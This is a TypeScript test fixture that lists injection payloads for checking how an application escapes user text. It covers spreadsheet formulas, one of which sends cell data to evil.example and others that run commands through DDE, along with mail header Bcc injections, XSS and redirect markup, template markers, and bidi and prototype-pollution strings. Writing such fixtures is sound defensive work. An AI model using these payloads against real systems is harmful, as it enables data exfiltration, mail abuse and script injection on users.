import blns from 'big-list-of-naughty-strings' with { type: 'json' };

/** What a spreadsheet takes for a formula, as it comes from a file, a shell or a form. */
export const formulas = [
  '=IMPORTXML("http://evil.example/?"&A1,"//a")',
  '=HYPERLINK("https://evil.example","x")',
  '+cmd|calc!A0',
  '-1+1',
  '-2+3+cmd|calc!A0',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  "'=1+1",
  '＝1+1',
  '=',
];

/** What would end a mail header early, add a receiver, or pass for an encoded word. */
export const headers = [
  'x\r\nBcc: evil@evil.example',
  'x\nBcc: evil@evil.example\n\nforged body',
  'x\rTo: evil@evil.example',
  'x%0d%0aBcc: evil@evil.example',
  'x\u2028Bcc: evil@evil.example',
  '=?utf-8?B?RnJvbTogZXZpbEBldmlsLmV4YW1wbGU=?=',
  '=?utf-8?Q?=0D=0ABcc:_evil@evil.example?=',
  '<evil@evil.example>, other@evil.example',
];

/** What would be an element, an attribute, a link or a template where text is not kept a text. */
export const markup = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '</textarea><script>alert(1)</script>',
  '</title></style><svg onload=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  "' onfocus='alert(1)' autofocus='",
  '" onmouseover="alert(1)',
  '<a href="javascript:alert(1)">x</a>',
  'javascript:alert(1)',
  'https://evil.example/exec?t=1',
  'https://evil.example/"onclick="alert(1)',
  '<!-- ',
  ']]><?php echo 1 ?>',
  '&lt;script&gt;&#60;b&#62;',
  '<form action=https://evil.example><input name=t>',
  '<base href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '${alert(1)}{{7*7}}<?= 1 ?>',
  '{subject}{requestNo}{who}',
  '\u202egnp.exe',
  '\u2067مرحبا\u2069',
  '\u200b<b>',
  '__proto__',
  'constructor',
];

export const payloads = [...formulas, ...headers, ...markup];

/** All of them with the whole list of naughty strings, each once. */
export const naughty = [...new Set([...payloads, ...blns])].filter((text) => text !== '');

/** Every tag with its attributes, without their values and without the texts between. */
export function skeleton(html: string): string {
  return (html.match(/<[^>]*>/g) ?? []).map((tag) => tag.replace(/"[^"]*"/g, '""')).join('\n');
}
